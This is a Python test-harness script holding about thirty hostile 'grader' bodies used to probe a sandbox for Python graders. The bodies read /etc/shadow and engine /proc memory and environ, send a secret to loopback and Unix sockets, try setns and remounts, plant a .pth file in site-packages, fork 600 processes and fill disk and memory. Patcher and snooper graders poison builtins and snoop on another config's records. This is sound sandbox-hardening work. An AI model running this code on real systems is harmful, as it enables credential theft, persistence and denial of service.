"""Hostile python graders against the local promise (§8.4), one attack per thing grader code must never do.

Each attack is real code in a grader config. It runs as the middle row of a three-row `run_many` batch whose other
rows score normally (so each row must keep its own result), and an honest grader runs after it in the same engine
process. An attack returns 1.0 when it got what it was after (a secret, a connection, a write, a privilege), so a
reward of 1.0 on the attack row is an escape; attacks on limits return how far they got.

`tests/test_python_promise.py` runs these in its own process (the engine as root) and as a script in other engine
processes (as an unprivileged user, and under a seccomp filter that forbids namespaces, as a container does):

    python promise_attacks.py CONTEXT.json RESULTS.json

The context names what the attacks aim at (the engine's pid, the head of its environ and cmdline, files the test
made, listeners it started, a canary process); the results hold, per attack, the batch's rewards, the attack row's
flags and details, the honest grader's reward, the level and warning reported, and how long the batch took.
"""

from __future__ import annotations

import json
import sys
import time
from typing import Any

import graders
from graders import Options

PRELUDE = r'''
import ctypes, errno, json, os, signal, socket, stat, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)

def _read(path, size=4096):
    try:
        with open(path, "rb") as f:
            return f.read(size)
    except Exception:
        return b""

def _worker_locals():
    frame = sys._getframe()
    while frame is not None and not ("seq" in frame.f_locals and "outbox" in frame.f_locals):
        frame = frame.f_back
    return frame.f_locals

def _frame(body):
    return struct.pack(">I", len(body)) + body

def _pids():
    try:
        return [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []
'''

ATTACKS: dict[str, str] = {
    # -- read host files beyond the interpreter and its libraries ---------------------------------------------------
    "read_etc_shadow": "return 1.0 if _read('/etc/shadow') else 0.0",
    "read_home_secret": "return 1.0 if ctx['secret'].encode() in _read(ctx['home_secret']) else 0.0",
    "read_checkout": "return 1.0 if _read(ctx['checkout_file']) else 0.0",
    "read_engine_cache": "return 1.0 if _read(ctx['cache_file']) else 0.0",
    "connect_run_sockets": """
reached = 0.0
for top, dirs, files in os.walk('/run'):
    for name in files:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(os.path.join(top, name))
            reached = 1.0
        except OSError:
            pass
return reached
""",
    # -- learn secrets of the engine process ------------------------------------------------------------------------
    "engine_environ": """
head = bytes.fromhex(ctx['environ_head'])
return 1.0 if any(_read(f'/proc/{pid}/environ').startswith(head) for pid in [ctx['engine_pid'], *_pids()]) else 0.0
""",
    "engine_cmdline": """
head = bytes.fromhex(ctx['cmdline_head'])
return 1.0 if any(_read(f'/proc/{pid}/cmdline').startswith(head) for pid in [ctx['engine_pid'], *_pids()]) else 0.0
""",
    "engine_memory": """
pid = ctx['engine_pid']
try:
    start = int(open(f'/proc/{pid}/maps').read().split('-', 1)[0], 16)
    with open(f'/proc/{pid}/mem', 'rb') as mem:
        mem.seek(start)
        if mem.read(8):
            return 1.0
except Exception:
    pass
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 8), iovec(0x400000, 8)
return 1.0 if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0 else 0.0
""",
    "inherited_descriptors": """
for fd in range(3, 1024):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(mode) or stat.S_ISREG(mode) or stat.S_ISSOCK(mode):
        return 1.0
return 0.0
""",
    "ptrace_canary": "return 1.0 if libc.ptrace(16, ctx['canary_pid'], 0, 0) == 0 else 0.0",
    "kill_everything": """
for pid in (ctx['canary_pid'], -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
return 0.0
""",
    # -- reach a network, loopback included, or a Unix socket of the host -------------------------------------------
    "tcp_loopback": """
s = socket.socket()
s.settimeout(2)
s.connect(('127.0.0.1', ctx['tcp_port']))
s.sendall(ctx['secret'].encode())
return 1.0
""",
    "udp_loopback": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(ctx['secret'].encode(), ('127.0.0.1', ctx['udp_port']))
return 1.0 if s.recv(64) else 0.0
""",
    "host_unix_socket": """
s = socket.socket(socket.AF_UNIX)
s.connect(ctx['unix_path'])
s.sendall(ctx['secret'].encode())
return 1.0
""",
    "abstract_unix_socket": """
s = socket.socket(socket.AF_UNIX)
s.connect('\\0' + ctx['abstract_name'])
s.sendall(ctx['secret'].encode())
return 1.0
""",
    "host_sysv_shared_memory": """
libc.shmget.restype, libc.shmat.restype = ctypes.c_int, ctypes.c_void_p
shmid = libc.shmget(ctx['shm_key'], 0, 0)
if shmid < 0:
    return 0.0
address = libc.shmat(shmid, None, 0o10000)
if address in (None, ctypes.c_void_p(-1).value):
    return 0.0
return 1.0 if ctypes.string_at(address, 64).startswith(ctx['secret'].encode()) else 0.0
""",
    "setns_to_host": """
for pid in (1, ctx['engine_pid'], ctx['canary_pid']):
    for kind in ('net', 'mnt', 'user', 'pid'):
        try:
            fd = os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, 0) == 0:
            return 1.0
return 0.0
""",
    "io_uring": "return 1.0 if libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0 else 0.0",
    # -- write anything that outlives the worker or that another grader can see ------------------------------------
    "write_host_paths": """
import sysconfig
wrote = 0
for path in (os.path.join(ctx['host_dir'], 'escaped.txt'), os.path.join(sysconfig.get_paths()['purelib'], 'graders_promise_evil.pth'), os.path.join(os.path.dirname(os.__file__), 'graders_promise_evil.py')):
    try:
        with open(path, 'w') as f:
            f.write('import os')
        wrote += 1
    except OSError:
        pass
return float(wrote)
""",
    "remount_and_unmount": """
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
attempts = [
    libc.mount(None, b'/', None, MS_REMOUNT | MS_BIND, None),
    libc.mount(None, b'/usr', None, MS_REMOUNT | MS_BIND, None),
    libc.mount(b'tmpfs', b'/usr', b'tmpfs', 0, None),
    libc.umount2(b'/tmp', 2),
    libc.umount2(b'/usr', 2),
    libc.unshare(0x10000000 | 0x00020000),
    libc.unshare(0x00020000),
]
return 1.0 if 0 in attempts else 0.0
""",
    "personality_no_aslr": "return 1.0 if libc.personality(0x0040000) != -1 else 0.0",
    "terminal_injection": """
for fd in (0, 1, 2):
    if libc.ioctl(fd, 0x5412, ctypes.c_char_p(b'x')) == 0:
        return 1.0
try:
    tty = os.open('/dev/tty', os.O_RDWR)
    return 1.0 if libc.ioctl(tty, 0x5412, ctypes.c_char_p(b'x')) == 0 else 0.0
except OSError:
    return 0.0
""",
    # -- outlast the wall clock -------------------------------------------------------------------------------------
    "keepalive_frames": """
signal.signal(signal.SIGALRM, signal.SIG_IGN)
state = _worker_locals()
body = json.dumps({'seq': state['seq'], 'replies': []}).encode()
while True:
    os.write(state['outbox'], _frame(body))
    time.sleep(0.5)
""",
    "setsid_child_ignoring_sigterm": """
if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.execv('/bin/sleep', ['sleep', ctx['marker']])
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    time.sleep(0.2)
""",
    "setsid_daemon_after_return": """
if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        os.execv('/bin/sleep', ['sleep', ctx['marker']])
    os._exit(0)
return 0.5
""",
    # -- exceed memory, process count or disk ------------------------------------------------------------------------
    "processes_600": """
children = []
for _ in range(600):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
return len(children) / 1000
""",
    "tmp_3gib": """
import tempfile
chunk, written = b'x' * (64 << 20), 0
try:
    for i in range(48):
        with open(os.path.join(tempfile.gettempdir(), f'fill{i}'), 'wb') as f:
            f.write(chunk)
        written += len(chunk)
except OSError:
    pass
return written / 2**30
""",
    "dev_shm_3gib": """
chunk, written = b'x' * (64 << 20), 0
try:
    for i in range(48):
        with open(f'/dev/shm/fill{i}', 'wb') as f:
            f.write(chunk)
        written += len(chunk)
except OSError:
    pass
return written / 2**30
""",
    "memory_3gib": "hoard = bytearray(3 << 30)\nreturn 1.0",
    # -- crash or stall the engine with what it sends back ----------------------------------------------------------
    "reply_40mb": """
sys.modules['__main__']._user_traceback = lambda exc: 'x' * (40 << 20)
raise ValueError('a reply the engine must not take')
""",
    "reply_1000_deep": """
main = sys.modules['__main__']
encode = main._dumps
main._dumps = lambda message: encode(message).replace(b'"deep"', b'[' * 1000 + b'1' + b']' * 1000)
main._describe = lambda value: 'deep'
return object()
""",
    "reply_disallowed_type": """
sys.modules['__main__']._describe = lambda value: {'value': {'nested': [1, 2]}, 'kind': 'builtins.dict'}
return object()
""",
    "empty_frame_flood": """
state = _worker_locals()
frame = _frame(json.dumps({'seq': state['seq'], 'replies': []}).encode())
try:
    for _ in range(10000):
        os.write(state['outbox'], frame * 100)
except OSError:
    pass
time.sleep(30)
""",
    "sigkill_self": "os.kill(os.getpid(), signal.SIGKILL)",
}
"""The attack bodies, indented into `grade` for the attack row only (`ctx` is the context)."""

LIMITS = {
    "python.timeout_s": 3,
    "python.memory_bytes": 768 * 1024**2,
    "python.disk_bytes": 256 * 1024**2,
    "python.workers": 1,
    "python.chunk_size": 3,
}
# Without namespaces the private /tmp is on the host's disk, which on a small CI machine may write 256 MiB in more
# than 3 s: the disk attacks get the time to reach the limit, so a timeout there means the limit did not hold.
TIMEOUTS = {"keepalive_frames": 1.0, "setsid_child_ignoring_sigterm": 1.0, "tmp_3gib": 60.0, "dev_shm_3gib": 60.0}
HONEST = "def grade(sample, item):\n    return 0.5\n"

PATCHER = PRELUDE + r'''
import builtins, math, tempfile
def grade(sample, item):
    builtins.round = lambda *a, **k: 0
    json.loads = lambda *a, **k: {"answer": "wrong"}
    math.isclose = lambda *a, **k: False
    for directory in ("/tmp", tempfile.gettempdir(), "/dev/shm"):
        try:
            with open(os.path.join(directory, "answer.txt"), "w") as f:
                f.write("wrong")
        except OSError:
            pass
    global LEAKED
    if "LEAKED" not in globals():
        LEAKED = []
        while len(LEAKED) < 250:
            try:
                LEAKED.append(os.open(os.devnull, os.O_RDONLY))
            except OSError:
                break
    return 1.0
'''
VICTIM = r'''
import json, math, os, tempfile
def grade(sample, item):
    ok = round(2.6) == 3 and json.loads('{"a": 1}') == {"a": 1} and math.isclose(0.1 + 0.2, 0.3)
    ok = ok and not any(os.path.exists(os.path.join(d, "answer.txt")) for d in ("/tmp", tempfile.gettempdir(), "/dev/shm"))
    spare = [os.open(os.devnull, os.O_RDONLY) for _ in range(200)]
    for fd in spare:
        os.close(fd)
    return item["k"] if ok else 0.0
'''
SNOOPER = PRELUDE + r'''
import gc
SEEN = []
def grade(sample, item):
    main = sys.modules["__main__"]
    if not SEEN:
        inbox = _worker_locals()["inbox"]
        real = inbox.read
        inbox.read = lambda: SEEN.append(real()) or SEEN[-1]
        SEEN.append(None)
    prefix = item["prefix"]
    found = any(prefix + "-" in repr(message) for message in SEEN[1:] if message)
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            found = found or any(isinstance(v, str) and v.startswith(prefix + "-") for v in obj.values())
    return 1.0 if found else 0.0
'''
PATIENT = "def grade(sample, item):\n    return 1.0 if item['patient'] else 0.0\n"


def hostile_source(body: str) -> str:
    lines = "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    return PRELUDE + "\ndef grade(sample, item):\n    if not item.get('attack'):\n        return item['k']\n    ctx = item['ctx']\n" + lines


def _options(ctx: dict[str, Any], **extra: Any) -> Options:
    return Options().with_values({**LIMITS, **ctx.get("options", {}), **extra})


def _summary(resp: graders.GraderRunResponse) -> dict[str, Any]:
    dump = resp.model_dump(include_details=True)
    return {
        "reward": resp.reward,
        "flags": sorted(k for k, v in resp.errors.items() if v is True),
        "type": resp.errors.get("python_grader_server_error_type"),
        "text": (resp.errors.get("python_grader_runtime_error_details") or (resp.details or {}).get("error") or "")[:600],
        "dump_chars": len(json.dumps(dump, default=str)),
        "sandbox": (resp.details or {}).get("sandbox"),
        "warning": (resp.details or {}).get("sandbox_warning"),
    }


def run_attack(name: str, ctx: dict[str, Any]) -> dict[str, Any]:
    """One attack as the middle row of a batch, then an honest grader: what each row and the honest grader got."""
    extra = {"python.timeout_s": TIMEOUTS[name]} if name in TIMEOUTS else {}
    compiled = graders.compile({"type": "python", "source": hostile_source(ATTACKS[name])}, _options(ctx, **extra))
    rows = [
        {"model_sample": "first", "item": {"k": 0.25}},
        {"model_sample": "attack", "item": {"attack": True, "ctx": ctx}},
        {"model_sample": "last", "item": {"k": 0.75}},
    ]
    started = time.monotonic()
    out = compiled.run_many(rows)
    elapsed = time.monotonic() - started
    honest = graders.run({"type": "python", "source": HONEST}, "x", options=_options(ctx))
    return {
        "batch": [out[0].reward, out[2].reward],
        "batch_failed": [out[0].failed, out[2].failed],
        "attack": _summary(out[1]),
        "honest": honest.reward,
        "honest_sandbox": (honest.details or {}).get("sandbox"),
        "elapsed": elapsed,
    }


def run_cross_config(ctx: dict[str, Any], fresh: bool) -> dict[str, Any]:
    """A grader that patches builtins, leaves files and leaks descriptors, then a second config that relies on them;
    a grader that snoops on its worker's input and memory, then another config's rows, then the snooper again."""
    opts = _options(ctx, **{"python.fresh_process": fresh})
    patcher = graders.compile({"type": "python", "source": PATCHER}, opts).run_many([{"model_sample": s} for s in ["a", "b"]])
    victim = graders.compile({"type": "python", "source": VICTIM}, opts).run_many([{"model_sample": "x", "item": {"k": 0.5}}] * 3)
    prefix = "patient-record"
    snooper = graders.compile({"type": "python", "source": SNOOPER}, opts)
    before = snooper.run("x", {"prefix": prefix})
    patient = graders.compile({"type": "python", "source": PATIENT}, opts).run_many(
        [{"model_sample": "x", "item": {"patient": f"{prefix}-{i}-{ctx['secret']}"}} for i in range(3)]
    )
    after = snooper.run("x", {"prefix": prefix})
    return {
        "patcher": [r.reward for r in patcher],
        "victim": [r.reward for r in victim],
        "snooper": [before.reward, after.reward],
        "patient": [r.reward for r in patient],
        "sandbox": (victim[0].details or {}).get("sandbox"),
    }


def run_all(ctx: dict[str, Any]) -> dict[str, Any]:
    results: dict[str, Any] = {}
    for name in ctx.get("attacks") or ATTACKS:
        try:
            results[name] = run_attack(name, ctx)
        except Exception as exc:  # noqa: BLE001 - recorded, so the test names the attack that broke the engine
            results[name] = {"engine_error": repr(exc)}
    for fresh in (False, True):
        key = "cross_config_fresh" if fresh else "cross_config"
        try:
            results[key] = run_cross_config(ctx, fresh)
        except Exception as exc:  # noqa: BLE001
            results[key] = {"engine_error": repr(exc)}
    return results


def engine_facts() -> dict[str, Any]:
    """This engine process as the attacks aim at it: its pid and the first bytes of its environ and cmdline."""
    import os

    with open("/proc/self/environ", "rb") as environ, open("/proc/self/cmdline", "rb") as cmdline:
        return {"engine_pid": os.getpid(), "environ_head": environ.read(48).hex(), "cmdline_head": cmdline.read(48).hex()}


def main() -> None:
    with open(sys.argv[1]) as f:
        ctx = json.load(f)
    ctx.update(engine_facts())
    results = run_all(ctx)
    with open(sys.argv[2], "w") as f:
        json.dump(results, f)


if __name__ == "__main__":
    main()
